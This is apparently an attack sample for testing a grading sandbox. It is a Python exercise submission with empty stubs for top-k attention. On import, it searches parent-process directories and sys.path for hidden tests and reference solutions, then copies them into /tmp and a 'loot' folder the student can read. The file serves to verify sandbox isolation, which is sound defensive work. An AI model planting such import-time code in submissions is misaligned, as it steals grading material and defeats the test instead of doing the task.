"""ATTACK read_hidden (kind: reading solutions and hidden tests).

What it tries: copy the hidden tests and the reference solutions somewhere the student can fetch them later.
At import time it looks for ``tests/hidden/*.py`` and ``solutions/*.py`` wherever the repository may be (the
folders of the loaded test modules, the current directory and its parents, the working directories and
command lines of the parent processes, ``sys.path``), reads them, and writes copies to
``/tmp/atk-read_hidden-<pid>/`` (a shared machine's /tmp outlives the grading) and into a ``loot`` folder next
to this file (the submission folder, which a student gets back or can read).

Why it must fail under the new design: the worker can read only the Python installation, site-packages,
``llm_basics/`` and its own copy of the submission, and write only its private temporary folder (Landlock):
it cannot open the hidden tests or the solutions, and cannot write /tmp or the submission folder.
"""

from __future__ import annotations

import glob
import os
import sys

import torch
from torch import Tensor

TAG = "atk-read_hidden"


def _ancestors():
    pid = os.getpid()
    for _ in range(12):
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return
        if pid <= 1:
            return
        yield pid


def _places():
    for name, module in list(sys.modules.items()):
        if name == "grader" or name.startswith(("grader.", "test_ex", "conftest")):
            yield getattr(module, "__file__", None) or ""
    yield os.getcwd()
    for pid in _ancestors():
        try:
            yield os.readlink(f"/proc/{pid}/cwd")
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                yield from (a.decode(errors="replace") for a in f.read().split(b"\0") if b"/" in a)
        except OSError:
            continue
    yield from sys.path


def _secrets() -> dict[str, bytes]:
    found: dict[str, bytes] = {}
    for place in _places():
        folder = os.path.abspath(place or ".")
        for _ in range(8):
            for pattern in ("tests/hidden/test_*.py", "hidden/test_*.py", "solutions/*.py"):
                for path in glob.glob(os.path.join(folder, pattern)):
                    try:
                        with open(path, "rb") as f:
                            found.setdefault(path, f.read())
                    except OSError:
                        pass
            folder = os.path.dirname(folder)
    return found


def _drop(folder: str, secrets: dict[str, bytes]) -> None:
    try:
        os.makedirs(folder, exist_ok=True)
        for path, data in secrets.items():
            name = path.strip("/").replace("/", "__")
            with open(os.path.join(folder, name), "wb") as f:
                f.write(data)
    except OSError:
        pass


try:
    _loot = _secrets()
    if _loot:
        _drop(f"/tmp/{TAG}-{os.getpid()}", _loot)
        _drop(os.path.join(os.path.dirname(os.path.abspath(__file__)), f"{TAG}-loot"), _loot)
except Exception:
    pass


# ---------------------------------------------------------------------------------------------------------
# The untouched exercise (nothing implemented)
# ---------------------------------------------------------------------------------------------------------


def topk_mask(scores: Tensor, top_k: int) -> Tensor:
    raise NotImplementedError("ex2: keep the top_k largest entries of each row")


def topk_attention(q: Tensor, k: Tensor, v: Tensor, top_k: int, *, causal: bool = True):
    raise NotImplementedError("ex2: validate the arguments, then mask, keep the top_k scores, softmax and mix")


_ = torch
